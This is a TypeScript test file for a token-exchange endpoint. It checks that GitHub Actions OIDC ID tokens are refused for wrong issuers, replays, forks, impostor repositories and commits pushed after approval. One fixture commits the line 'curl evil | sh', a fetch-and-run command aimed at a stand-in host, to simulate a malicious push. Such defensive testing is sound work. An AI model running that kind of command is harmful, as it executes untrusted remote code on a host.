import { createRemoteJWKSet, decodeJwt, jwtVerify } from "jose";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { backends, primaryBackend } from "../support/db.js";
import {
  type ExchangeWorld,
  OTHER_RESOURCE,
  RESOURCE,
  startExchangeWorld,
  VAULT_RESOURCE,
} from "../support/exchange.js";
import { endGrant, insertGrant } from "../support/grants.js";
import { startOidcIssuer } from "../support/oidc-issuer.js";
import { startTokenHarness } from "../support/token-service.js";

interface Refused {
  readonly status: number;
  readonly code: string;
  readonly message: string;
}

async function refusal(response: Response): Promise<Refused> {
  const body = (await response.json()) as { error: string; message: string };
  return { status: response.status, code: body.error, message: body.message };
}

describe.each(backends)("POST /v1/exchange on %s", (backend) => {
  let w: ExchangeWorld;
  beforeAll(async () => {
    w = await startExchangeWorld(backend);
  });
  afterAll(() => w.close());
  beforeEach(() => {
    w.sim.clearRequests();
  });

  const body = { resource: RESOURCE };
  const prToken = async (number: number, claims: Record<string, unknown> = {}) =>
    w.idToken({ ...w.pullRequestRun(number), ...claims });
  const refusedAudits = async () =>
    (
      await w.h.db.query<{ body: string; ticket_id: string | null; actor: string | null }>(
        "SELECT body, ticket_id, actor FROM audit_events WHERE kind = 'token.refused' ORDER BY seq",
      )
    ).rows.map((r) => ({ ...JSON.parse(r.body).data, ticket_id: r.ticket_id, actor: r.actor }));
  const lastRefusal = async () => (await refusedAudits()).at(-1);
  const commitReads = () => w.sim.requests({ method: "GET", path: /\/commits\/[0-9a-f]{40}$/ });

  describe("a pull_request run of the ticket's pull request", () => {
    it("gets a token that plain jose verifies with the server's JWKS", async () => {
      const pr = await w.prGrant();
      const run = w.pullRequestRun(pr.number);
      const response = await w.exchange(body, await w.idToken(run));
      expect(response.status).toBe(200);
      expect(response.headers.get("cache-control")).toBe("no-store");
      const answer = (await response.json()) as Record<string, unknown>;
      expect(answer).toEqual({
        token: expect.any(String),
        expires_at: expect.any(String),
        grant: pr.grantId,
        scopes: ["read", "refund"],
      });
      const jwks = createRemoteJWKSet(new URL(`${w.h.url}/.well-known/jwks.json`));
      const { payload } = await jwtVerify(answer.token as string, jwks, {
        issuer: w.h.url,
        audience: `${w.repo.fullName}/${RESOURCE}`,
      });
      expect(payload).toMatchObject({
        sub: `repo:acme@${w.repo.ownerId}/app@${w.repo.id}:run:3003:1`,
        act: { sub: "octocat" },
        client_id: "hallpass-action",
        scope: "read refund",
        hallpass: {
          grant: pr.grantId,
          resource: RESOURCE,
          channel: "actions",
          run: { id: 3003, attempt: 1, workflow_ref: run.workflow_ref, sha: run.sha },
        },
      });
      expect(new Date((payload.exp as number) * 1000).toISOString()).toBe(answer.expires_at);
      expect(w.sim.unexpected).toEqual([]);
    });

    it("looks the merge commit up once: commits never change", async () => {
      const pr = await w.prGrant();
      for (let attempt = 1; attempt <= 3; attempt++) {
        const token = await prToken(pr.number, { run_attempt: String(attempt) });
        expect((await w.exchange(body, token)).status).toBe(200);
      }
      expect(commitReads()).toHaveLength(1);
      expect(commitReads()[0]?.path).toBe(
        `/repositories/${w.repo.id}/commits/${w.pullRequestRun(pr.number).sha}`,
      );
    });

    it("narrows to some of the grant's scopes, never widens", async () => {
      const pr = await w.prGrant({
        scopePermissions: { read: ["GET /v1/**"], refund: ["POST /v1/refunds"] },
      });
      const narrow = await w.exchange({ ...body, scopes: ["read"] }, await prToken(pr.number));
      expect(narrow.status).toBe(200);
      const { token } = (await narrow.json()) as { token: string };
      expect(decodeJwt(token)).toMatchObject({
        scope: "read",
        hallpass: { permissions: ["GET /v1/**"] },
      });
      const wide = await refusal(
        await w.exchange({ ...body, scopes: ["read", "admin"] }, await prToken(pr.number)),
      );
      expect(wide).toMatchObject({ status: 403, code: "SCOPE_NOT_GRANTED" });
      expect(wide.message).toContain("admin");
      expect(await lastRefusal()).toMatchObject({ check: "scopes", code: "SCOPE_NOT_GRANTED" });
    });
  });

  describe("the ID token", () => {
    it("is used once; a refused exchange does not spend it", async () => {
      const start = new Date(w.h.clock.now().getTime() + 60_000);
      const pr = await w.prGrant({ startsAt: start });
      const token = await prToken(pr.number);
      expect(await refusal(await w.exchange(body, token))).toMatchObject({
        status: 403,
        code: "GRANT_NOT_ACTIVE",
      });
      // Once the window opens, the same ID token works: the refusal did not spend it.
      await w.h.db.query(
        "UPDATE grants SET starts_at = now() - interval '1 minute' WHERE id = $1",
        [pr.grantId],
      );
      expect((await w.exchange(body, token)).status).toBe(200);
      const replay = await refusal(await w.exchange(body, token));
      expect(replay).toMatchObject({ status: 401, code: "OIDC_REPLAY" });
      expect(await lastRefusal()).toMatchObject({
        check: "id_token",
        code: "OIDC_REPLAY",
        repository_id: w.repo.id,
        run: { id: 3003, attempt: 1 },
      });
    });

    it("is audited once when refused again and again, each new ID token again", async () => {
      const pr = await w.prGrant();
      // A valid ID token of a repository hallpass knows nothing of.
      const foreign = {
        ...w.pullRequestRun(pr.number),
        repository: "elsewhere/app",
        repository_id: "987654321",
        repository_owner: "elsewhere",
        repository_owner_id: "987654000",
      };
      const token = await w.idToken(foreign);
      const before = (await refusedAudits()).length;
      for (let i = 0; i < 3; i++) {
        expect(await refusal(await w.exchange(body, token))).toMatchObject({
          status: 404,
          code: "TICKET_NOT_FOUND",
        });
      }
      expect((await refusedAudits()).slice(before)).toEqual([
        expect.objectContaining({ code: "TICKET_NOT_FOUND", repository_id: 987654321 }),
      ]);
      // Refused for another reason, or another ID token: audited.
      const other = await refusal(await w.exchange({ ...body, ticket: pr.number + 1 }, token));
      expect(other).toMatchObject({ status: 403, code: "RUN_TICKET" });
      await w.exchange(body, await w.idToken(foreign));
      expect((await refusedAudits()).slice(before).map((r) => r.code)).toEqual([
        "TICKET_NOT_FOUND",
        "RUN_TICKET",
        "TICKET_NOT_FOUND",
      ]);
    });

    it("is used once even when replayed concurrently", async () => {
      const pr = await w.prGrant();
      const token = await prToken(pr.number);
      const answers = await Promise.all(
        Array.from({ length: 6 }, () => w.exchange(body, token).then((r) => r.status)),
      );
      expect(answers.filter((s) => s === 200)).toHaveLength(1);
      expect(answers.filter((s) => s === 401)).toHaveLength(5);
    });

    it("must come from the configured issuer", async () => {
      const pr = await w.prGrant();
      const attacker = await startOidcIssuer();
      try {
        const token = await attacker.idToken("https://hallpass.example", {
          claims: w.pullRequestRun(pr.number),
        });
        const refused = await refusal(await w.exchange(body, token));
        expect(refused).toMatchObject({ status: 401, code: "OIDC_ISSUER" });
        expect(attacker.requests).toEqual([]);
      } finally {
        await attacker.close();
      }
      // Unverified claims are not recorded as if they were true.
      expect(await lastRefusal()).toMatchObject({
        check: "id_token",
        code: "OIDC_ISSUER",
        repository_id: null,
        run: null,
      });
    });

    it("must be for hallpass's audience, not GitHub's default", async () => {
      const pr = await w.prGrant();
      const token = await w.idToken({
        ...w.pullRequestRun(pr.number),
        aud: "https://github.com/acme",
      });
      expect(await refusal(await w.exchange(body, token))).toMatchObject({
        status: 401,
        code: "OIDC_AUDIENCE",
      });
    });

    it("must be sent as a bearer token", async () => {
      const refused = await refusal(await w.exchange(body, null));
      expect(refused).toMatchObject({ status: 401, code: "OIDC_MALFORMED" });
      expect(await lastRefusal()).toMatchObject({ check: "id_token", code: "OIDC_MALFORMED" });
    });

    it("is never written to the audit log or echoed", async () => {
      const pr = await w.prGrant();
      const token = await prToken(pr.number);
      await w.exchange(body, token);
      const replay = await w.exchange(body, token);
      expect(await replay.text()).not.toContain(token.split(".")[2]);
      const { rows } = await w.h.db.query<{ body: string }>("SELECT body FROM audit_events");
      for (const row of rows) expect(row.body).not.toContain(token.split(".")[2]);
    });
  });

  describe("the run's event and ref", () => {
    it.each([
      ["workflow_run", /workflow_run runs are refused/],
      ["issue_comment", /issue_comment runs are refused/],
      ["push", /"push" runs are refused/],
      ["schedule", /"schedule" runs are refused/],
    ])("refuses %s runs", async (event, message) => {
      const pr = await w.prGrant();
      const refused = await refusal(
        await w.exchange(body, await prToken(pr.number, { event_name: event })),
      );
      expect(refused).toMatchObject({ status: 403, code: "RUN_EVENT" });
      expect(refused.message).toMatch(message);
      expect(await lastRefusal()).toMatchObject({
        check: "event",
        repository_id: w.repo.id,
        run: { id: 3003, attempt: 1 },
        event_name: event,
      });
    });

    it("refuses a pull_request run that is not on its merge ref", async () => {
      const pr = await w.prGrant();
      const refused = await refusal(
        await w.exchange(body, await prToken(pr.number, { ref: `refs/pull/${pr.number}/head` })),
      );
      expect(refused).toMatchObject({ status: 403, code: "RUN_REF" });
    });
  });

  describe("the ticket", () => {
    it("is found by repository id: a renamed repository's reused name gets nothing", async () => {
      const pr = await w.prGrant({ repo: w.vault });
      const oldId = w.vault.id;
      w.sim.renameRepo(oldId, "acme/vault-old");
      const reused = w.sim.addRepo("acme/vault");
      // A run of the new repository with the old one's name and the same PR number.
      const impostor = {
        ...w.pullRequestRun(pr.number, w.vault),
        repository: "acme/vault",
        repository_id: String(reused.id),
      };
      const request = { resource: VAULT_RESOURCE };
      const none = await refusal(await w.exchange(request, await w.idToken(impostor)));
      expect(none).toMatchObject({ status: 404, code: "TICKET_NOT_FOUND" });
      // Even with a ticket and grant of its own, the resource stays bound to the old id.
      await insertGrant(w.h.db, {
        repoId: reused.id,
        repoOwnerId: w.vault.ownerId,
        installationId: w.vault.installationId,
        repoFullName: "acme/vault",
        number: pr.number,
        resource: VAULT_RESOURCE,
        approvedCommit: pr.headSha,
        startsAt: new Date(w.h.clock.now().getTime() - 60_000),
      });
      const unbound = await refusal(await w.exchange(request, await w.idToken(impostor)));
      expect(unbound).toMatchObject({ status: 403, code: "RESOURCE_NOT_BOUND" });
      // The renamed repository keeps its grant: identity is the id, not the name.
      const renamed = { ...w.pullRequestRun(pr.number, w.vault), repository: "acme/vault-old" };
      expect((await w.exchange(request, await w.idToken(renamed))).status).toBe(200);
    });

    it("refuses another pull request's run, whatever ticket it names", async () => {
      const pr = await w.prGrant();
      const other = w.sim.openPullRequest(w.repo.id, {
        author: "mallory",
        head: `other-${w.sim.nextId()}`,
        files: { "x.txt": "x\n" },
      });
      const otherRun = w.pullRequestRun(other.number);
      const named = await refusal(
        await w.exchange({ ...body, ticket: pr.number }, await w.idToken(otherRun)),
      );
      expect(named).toMatchObject({ status: 403, code: "RUN_TICKET" });
      const own = await refusal(await w.exchange(body, await w.idToken(otherRun)));
      expect(own).toMatchObject({ status: 404, code: "TICKET_NOT_FOUND" });
      // Its merge commit under this pull request's ref: not the approved head.
      const forged = await refusal(
        await w.exchange(body, await prToken(pr.number, { sha: otherRun.sha })),
      );
      expect(forged).toMatchObject({ status: 403, code: "RUN_COMMIT" });
    });

    it("says when the pull request has no grant", async () => {
      const pr = w.sim.openPullRequest(w.repo.id, {
        author: "alice",
        head: `nogrant-${w.sim.nextId()}`,
        files: { "y.txt": "y\n" },
      });
      const { rows } = await w.h.db.query<{ id: string }>(
        `INSERT INTO tickets (installation_id, repo_id, repo_owner_id, repo_full_name, number, kind,
                              author_id, author_login, head_repo_id)
         VALUES ($1, $2, $3, $4, $5, 'pull_request', 1, 'alice', $2) RETURNING id`,
        [w.repo.installationId, w.repo.id, w.repo.ownerId, w.repo.fullName, pr.number],
      );
      expect(rows).toHaveLength(1);
      const refused = await refusal(await w.exchange(body, await prToken(pr.number)));
      expect(refused).toMatchObject({ status: 404, code: "GRANT_NOT_FOUND" });
    });
  });

  describe("the grant", () => {
    it("must be active and inside its window", async () => {
      const revoked = await w.prGrant();
      await endGrant(w.h.db, revoked.grantId, "revoked");
      const expired = await w.prGrant({
        startsAt: new Date(w.h.clock.now().getTime() - 7_200_000),
        endsAt: new Date(w.h.clock.now().getTime() - 60_000),
      });
      const pending = await w.prGrant({ state: "pending" });
      const later = await w.prGrant({ startsAt: new Date(w.h.clock.now().getTime() + 600_000) });
      const cases: Array<[number, RegExp]> = [
        [revoked.number, /has been revoked/],
        [expired.number, /ended at/],
        [pending.number, /is pending: it needs approval/],
        [later.number, /starts at/],
      ];
      for (const [number, message] of cases) {
        const refused = await refusal(await w.exchange(body, await prToken(number)));
        expect(refused).toMatchObject({ status: 403, code: "GRANT_NOT_ACTIVE" });
        expect(refused.message).toMatch(message);
      }
    });

    it("is for the resource asked for, still bound to this repository", async () => {
      const pr = await w.prGrant();
      const mismatch = await refusal(
        await w.exchange({ resource: OTHER_RESOURCE }, await prToken(pr.number)),
      );
      expect(mismatch).toMatchObject({ status: 403, code: "RESOURCE_MISMATCH" });
      // A grant for a resource the operator binds to another repository.
      const elsewhere = await w.prGrant({ resource: OTHER_RESOURCE });
      const unbound = await refusal(
        await w.exchange({ resource: OTHER_RESOURCE }, await prToken(elsewhere.number)),
      );
      expect(unbound).toMatchObject({ status: 403, code: "RESOURCE_NOT_BOUND" });
      expect(await lastRefusal()).toMatchObject({
        check: "binding",
        repository_id: w.repo.id,
        resource: OTHER_RESOURCE,
      });
    });
  });

  describe("a ticket exchanged a moment ago (remembered)", () => {
    it("refuses its grant as soon as it is revoked", async () => {
      const pr = await w.prGrant();
      expect((await w.exchange(body, await prToken(pr.number))).status).toBe(200);
      await endGrant(w.h.db, pr.grantId, "revoked");
      const refused = await refusal(await w.exchange(body, await prToken(pr.number)));
      expect(refused).toMatchObject({ status: 403, code: "GRANT_NOT_ACTIVE" });
      expect(refused.message).toMatch(/has been revoked/);
    });

    it("audits a refusal right after a revocation once (the mint's)", async () => {
      const pr = await w.prGrant();
      expect((await w.exchange(body, await prToken(pr.number))).status).toBe(200);
      await endGrant(w.h.db, pr.grantId, "revoked");
      const before = (await refusedAudits()).length;
      const refused = await refusal(await w.exchange(body, await prToken(pr.number)));
      expect(refused).toMatchObject({ status: 403, code: "GRANT_NOT_ACTIVE" });
      expect((await refusedAudits()).slice(before)).toEqual([
        expect.objectContaining({
          check: "grant",
          code: "GRANT_NOT_ACTIVE",
          grant_state: "revoked",
          ticket_id: pr.ticketId,
        }),
      ]);
    });

    it("uses a new grant of the same ticket at once", async () => {
      const pr = await w.prGrant();
      expect((await w.exchange(body, await prToken(pr.number))).status).toBe(200);
      await endGrant(w.h.db, pr.grantId, "revoked");
      const { rows } = await w.h.db.query<{ id: string }>(
        `INSERT INTO grants (ticket_id, state, resource, audience, scopes, permissions,
                             duration_s, reason, request_hash, requester_id, requester_login,
                             approved_commit, starts_at, ends_at)
         SELECT ticket_id, 'active', resource, audience, scopes, permissions, duration_s, reason,
                'hash2', requester_id, requester_login, approved_commit, starts_at, ends_at
           FROM grants WHERE id = $1
         RETURNING id`,
        [pr.grantId],
      );
      const response = await w.exchange(body, await prToken(pr.number));
      expect(response.status).toBe(200);
      expect(await response.json()).toMatchObject({ grant: rows[0]?.id });
    });

    it("reads the ticket again once its remembered window has ended (an extension)", async () => {
      const pr = await w.prGrant({ endsAt: new Date(w.h.clock.now().getTime() + 2_000) });
      expect((await w.exchange(body, await prToken(pr.number))).status).toBe(200);
      await w.h.db.query("UPDATE grants SET ends_at = ends_at + interval '1 hour' WHERE id = $1", [
        pr.grantId,
      ]);
      w.h.clock.advance(3_000);
      try {
        expect((await w.exchange(body, await prToken(pr.number))).status).toBe(200);
      } finally {
        w.h.clock.advance(-3_000);
      }
    });
  });

  describe("the approved commit", () => {
    it("refuses a run on a commit pushed after approval", async () => {
      const pr = await w.prGrant();
      const approvedRun = w.pullRequestRun(pr.number);
      w.sim.commit(w.repo.id, {
        branch: pr.headBranch,
        files: { "sneaky.txt": "curl evil | sh\n" },
        author: "alice",
      });
      const pushed = w.pullRequestRun(pr.number);
      expect(pushed.sha).not.toBe(approvedRun.sha);
      const refused = await refusal(await w.exchange(body, await w.idToken(pushed)));
      expect(refused).toMatchObject({ status: 403, code: "RUN_COMMIT" });
      expect(refused.message).toMatch(/pushed after approval/);
      expect(await lastRefusal()).toMatchObject({ check: "commit", ticket_id: pr.ticketId });
      // A run on the approved merge (a re-run) still gets its token.
      const rerun = { ...approvedRun, run_attempt: "2" };
      expect((await w.exchange(body, await w.idToken(rerun))).status).toBe(200);
    });

    it("fails (503, not a refusal) when the App's installation gives no token", async () => {
      const pr = await w.prGrant({ installationId: 987_654 });
      const failed = await refusal(await w.exchange(body, await prToken(pr.number)));
      expect(failed).toMatchObject({ status: 503, code: "GITHUB_UNAVAILABLE" });
    });

    it("refuses a pull request into another branch than the default one", async () => {
      const pr = await w.prGrant();
      const release = `release-${w.sim.nextId()}`;
      w.sim.commit(w.repo.id, { branch: release, files: { "r.txt": "r\n" }, author: "bob" });
      const refused = await refusal(
        await w.exchange(body, await prToken(pr.number, { base_ref: release })),
      );
      expect(refused).toMatchObject({ status: 403, code: "RUN_REF" });
      expect(refused.message).toMatch(/only pull requests into the default branch main/);
    });

    it("refuses a commit GitHub does not know", async () => {
      const pr = await w.prGrant();
      const refused = await refusal(
        await w.exchange(body, await prToken(pr.number, { sha: "f".repeat(40) })),
      );
      expect(refused).toMatchObject({ status: 403, code: "RUN_COMMIT" });
      expect(refused.message).toMatch(/knows no commit/);
    });

    it("refuses a fork's run unless the policy allows forks", async () => {
      const pr = await w.prGrant({ author: "mallory", fork: true });
      const refused = await refusal(await w.exchange(body, await prToken(pr.number)));
      expect(refused).toMatchObject({ status: 403, code: "RUN_FORK" });
      const allowed = await w.prGrant({
        author: "mallory",
        fork: true,
        constraints: { allowForks: true },
      });
      expect((await w.exchange(body, await prToken(allowed.number))).status).toBe(200);
    });
  });

  describe("pull_request_target", () => {
    const targetRun = (pr: { number: number; headBranch: string }) => ({
      ...w.pullRequestRun(pr.number),
      event_name: "pull_request_target",
      ref: "refs/heads/main",
      sha: w.sim.branchHead(w.repo.id),
      head_ref: pr.headBranch,
      base_ref: "main",
    });

    it("gets nothing unless the grant's policy allows it, saying nothing of the grant", async () => {
      const pr = await w.prGrant();
      const refused = await refusal(
        await w.exchange({ ...body, ticket: pr.number }, await w.idToken(targetRun(pr))),
      );
      expect(refused).toMatchObject({ status: 403, code: "RUN_EVENT" });
      // A pull request without a grant gets the same answer.
      const bare = w.sim.openPullRequest(w.repo.id, {
        author: "alice",
        head: `bare-${w.sim.nextId()}`,
        files: { "z.txt": "z\n" },
      });
      await w.h.db.query(
        `INSERT INTO tickets (installation_id, repo_id, repo_owner_id, repo_full_name, number, kind,
                              author_id, author_login, head_repo_id)
         VALUES ($1, $2, $3, $4, $5, 'pull_request', 1, 'alice', $2)`,
        [w.repo.installationId, w.repo.id, w.repo.ownerId, w.repo.fullName, bare.number],
      );
      const same = await refusal(
        await w.exchange(
          { ...body, ticket: bare.number },
          await w.idToken(targetRun({ number: bare.number, headBranch: bare.pull.head.ref })),
        ),
      );
      expect(same.code).toBe(refused.code);
      expect(same.message.replace(`#${bare.number}`, "#N")).toBe(
        refused.message.replace(`#${pr.number}`, "#N"),
      );
    });

    it("with the policy's consent, matches the named pull request's branches and approved head", async () => {
      const pr = await w.prGrant({ constraints: { allowPullRequestTarget: true } });
      const unnamed = await refusal(await w.exchange(body, await w.idToken(targetRun(pr))));
      expect(unnamed).toMatchObject({ status: 403, code: "RUN_TICKET" });
      const otherBranch = await refusal(
        await w.exchange(
          { ...body, ticket: pr.number },
          await w.idToken({ ...targetRun(pr), head_ref: "someone-else" }),
        ),
      );
      expect(otherBranch).toMatchObject({ status: 403, code: "RUN_REF" });
      const ok = await w.exchange({ ...body, ticket: pr.number }, await w.idToken(targetRun(pr)));
      expect(ok.status).toBe(200);
      w.sim.commit(w.repo.id, {
        branch: pr.headBranch,
        files: { "later.txt": "1\n" },
        author: "alice",
      });
      const moved = await refusal(
        await w.exchange({ ...body, ticket: pr.number }, await w.idToken(targetRun(pr))),
      );
      expect(moved).toMatchObject({ status: 403, code: "RUN_COMMIT" });
    });
  });

  describe("a workflow_dispatch run naming an issue", () => {
    it("gets a token when dispatched by the requester on the default branch", async () => {
      const issue = await w.issueGrant("alice");
      const response = await w.exchange(
        { ...body, ticket: issue.number },
        await w.idToken(w.dispatchRun("alice")),
      );
      expect(response.status).toBe(200);
      const { token } = (await response.json()) as { token: string };
      expect(decodeJwt(token)).toMatchObject({ act: { sub: "alice" } });
    });

    it("refuses anyone else, saying nothing of whether the issue has a grant", async () => {
      const issue = await w.issueGrant("alice");
      const bob = await refusal(
        await w.exchange({ ...body, ticket: issue.number }, await w.idToken(w.dispatchRun("bob"))),
      );
      expect(bob).toMatchObject({ status: 403, code: "RUN_ACTOR" });
      expect(await lastRefusal()).toMatchObject({ check: "actor", ticket: issue.number });
      const bare = w.sim.openIssue(w.repo.id, { author: "alice" });
      await w.h.db.query(
        `INSERT INTO tickets (installation_id, repo_id, repo_owner_id, repo_full_name, number, kind,
                              author_id, author_login)
         VALUES ($1, $2, $3, $4, $5, 'issue', 1, 'alice')`,
        [w.repo.installationId, w.repo.id, w.repo.ownerId, w.repo.fullName, bare.number],
      );
      const none = await refusal(
        await w.exchange({ ...body, ticket: bare.number }, await w.idToken(w.dispatchRun("bob"))),
      );
      expect(none.code).toBe(bob.code);
      expect(none.message.replace(`#${bare.number}`, "#N")).toBe(
        bob.message.replace(`#${issue.number}`, "#N"),
      );
      // The requester's login, but another account: ids decide.
      const lookalike = await refusal(
        await w.exchange(
          { ...body, ticket: issue.number },
          await w.idToken({ ...w.dispatchRun("alice"), actor_id: "999999" }),
        ),
      );
      expect(lookalike).toMatchObject({ status: 403, code: "RUN_ACTOR" });
    });

    it("refuses a dispatch from another branch", async () => {
      const issue = await w.issueGrant("alice");
      w.sim.commit(w.repo.id, { branch: "feature", files: { "f.txt": "f\n" }, author: "alice" });
      const refused = await refusal(
        await w.exchange(
          { ...body, ticket: issue.number },
          await w.idToken(w.dispatchRun("alice", "feature")),
        ),
      );
      expect(refused).toMatchObject({ status: 403, code: "RUN_REF" });
      expect(refused.message).toMatch(/default branch main, not feature/);
    });

    it("must name an issue", async () => {
      const issue = await w.issueGrant("alice");
      const unnamed = await refusal(
        await w.exchange(body, await w.idToken(w.dispatchRun("alice"))),
      );
      expect(unnamed).toMatchObject({ status: 403, code: "RUN_TICKET" });
      const pr = await w.prGrant({ author: "alice" });
      const pull = await refusal(
        await w.exchange({ ...body, ticket: pr.number }, await w.idToken(w.dispatchRun("alice"))),
      );
      expect(pull).toMatchObject({ status: 403, code: "RUN_TICKET" });
      const missing = await refusal(
        await w.exchange({ ...body, ticket: 99_999 }, await w.idToken(w.dispatchRun("alice"))),
      );
      expect(missing).toMatchObject({ status: 404, code: "TICKET_NOT_FOUND" });
      expect(issue.number).toBeGreaterThan(0);
    });
  });

  describe("the policy's rules for runs", () => {
    it("checks environment, workflow and runner", async () => {
      const constraints = {
        environments: ["production"],
        jobWorkflowRefs: [`${w.repo.fullName}/.github/workflows/deploy.yml@refs/heads/main`],
        runnerEnvironment: "github-hosted",
      };
      const pr = await w.prGrant({ constraints });
      const good = {
        environment: "Production",
        job_workflow_ref: constraints.jobWorkflowRefs[0],
        runner_environment: "github-hosted",
      };
      const cases: Array<[Record<string, unknown>, string]> = [
        [{ ...good, environment: undefined }, "RUN_ENVIRONMENT"],
        [{ ...good, environment: "staging" }, "RUN_ENVIRONMENT"],
        [
          {
            ...good,
            job_workflow_ref: `${w.repo.fullName}/.github/workflows/x.yml@refs/heads/main`,
          },
          "RUN_WORKFLOW",
        ],
        [{ ...good, runner_environment: "self-hosted" }, "RUN_RUNNER"],
      ];
      for (const [claims, code] of cases) {
        const refused = await refusal(await w.exchange(body, await prToken(pr.number, claims)));
        expect(refused).toMatchObject({ status: 403, code });
      }
      expect(await lastRefusal()).toMatchObject({ check: "constraints", code: "RUN_RUNNER" });
      expect((await w.exchange(body, await prToken(pr.number, good))).status).toBe(200);
    });
  });

  it("validates the request body", async () => {
    for (const bad of [
      {},
      { resource: "Bad Name" },
      { resource: RESOURCE, scopes: [] },
      { resource: RESOURCE, ticket: -1 },
      { resource: RESOURCE, extra: 1 },
    ]) {
      const response = await w.exchange(bad, "x.y.z");
      expect(response.status).toBe(400);
    }
  });
});

describe("POST /v1/exchange limits", () => {
  it("answers 429 with retry-after past a repository's budget, per repository", async () => {
    const w = await startExchangeWorld(primaryBackend, {
      rateLimits: { perRepository: 2, perUser: 2 },
    });
    try {
      const pr = await w.prGrant();
      const run = w.pullRequestRun(pr.number);
      for (let i = 0; i < 2; i++) {
        expect((await w.exchange({ resource: RESOURCE }, await w.idToken(run))).status).toBe(200);
      }
      const limited = await w.exchange({ resource: RESOURCE }, await w.idToken(run));
      expect(limited.status).toBe(429);
      expect(Number(limited.headers.get("retry-after"))).toBeGreaterThanOrEqual(1);
      expect(await refusal(limited)).toMatchObject({ code: "RATE_LIMITED" });
      // Another repository has its own budget.
      const other = await w.prGrant({ repo: w.other });
      const ok = await w.exchange(
        { resource: OTHER_RESOURCE },
        await w.idToken(w.pullRequestRun(other.number, w.other)),
      );
      expect(ok.status).toBe(200);
      // An ID token that does not verify spends nothing of anyone's budget.
      const forged = await w.exchange({ resource: RESOURCE }, "e30.e30.");
      expect(forged.status).toBe(401);
    } finally {
      await w.close();
    }
  });

  it("stops reading an address's credentials once it sent too many refused ones", async () => {
    const w = await startExchangeWorld(primaryBackend, { rateLimits: { refusedPerAddress: 2 } });
    try {
      const audited = async () =>
        (
          await w.h.db.query<{ n: number }>(
            "SELECT count(*)::int AS n FROM audit_events WHERE kind = 'token.refused'",
          )
        ).rows[0]?.n;
      for (let i = 0; i < 2; i++) {
        expect((await w.exchange({ resource: RESOURCE }, `not.a.token${i}`)).status).toBe(401);
      }
      const limited = await w.exchange({ resource: RESOURCE }, "not.a.token");
      expect(limited.status).toBe(429);
      expect(Number(limited.headers.get("retry-after"))).toBeGreaterThanOrEqual(1);
      // The same for people's tokens, and even a good credential waits: nothing is read.
      expect((await w.personToken({ ticket: "acme/app#1" }, "bad")).status).toBe(429);
      const pr = await w.prGrant();
      const good = await w.idToken(w.pullRequestRun(pr.number));
      expect((await w.exchange({ resource: RESOURCE }, good)).status).toBe(429);
      expect(await audited()).toBe(2);
    } finally {
      await w.close();
    }
  });

  it("counts valid ID tokens refused for their run toward the address's refusals", async () => {
    const w = await startExchangeWorld(primaryBackend, { rateLimits: { refusedPerAddress: 3 } });
    try {
      const pr = await w.prGrant();
      // Valid ID tokens of repositories hallpass knows nothing of, each new.
      const foreign = (n: number) =>
        w.idToken({
          ...w.pullRequestRun(pr.number),
          repository: `elsewhere/app${n}`,
          repository_id: String(900_000 + n),
          repository_owner: "elsewhere",
          repository_owner_id: "899999",
        });
      for (let n = 0; n < 3; n++) {
        expect((await w.exchange({ resource: RESOURCE }, await foreign(n))).status).toBe(404);
      }
      const limited = await w.exchange({ resource: RESOURCE }, await foreign(3));
      expect(limited.status).toBe(429);
      expect(Number(limited.headers.get("retry-after"))).toBeGreaterThanOrEqual(1);
      expect(await refusal(limited)).toMatchObject({ code: "RATE_LIMITED" });
      const { rows } = await w.h.db.query<{ n: number }>(
        "SELECT count(*)::int AS n FROM audit_events WHERE kind = 'token.refused'",
      );
      expect(rows[0]?.n).toBe(3);
      // Requests that succeed spend nothing: the good run waits only for the refusals.
      const good = await w.idToken(w.pullRequestRun(pr.number));
      expect((await w.exchange({ resource: RESOURCE }, good)).status).toBe(429);
    } finally {
      await w.close();
    }
  });

  it("answers 503 NOT_READY without the GitHub App", async () => {
    const h = await startTokenHarness(primaryBackend);
    try {
      const response = await fetch(`${h.url}/v1/exchange`, {
        method: "POST",
        headers: { "content-type": "application/json", authorization: "Bearer a.b.c" },
        body: JSON.stringify({ resource: RESOURCE }),
      });
      expect(response.status).toBe(503);
      expect(await refusal(response)).toMatchObject({ code: "NOT_READY" });
    } finally {
      await h.close();
    }
  });
});
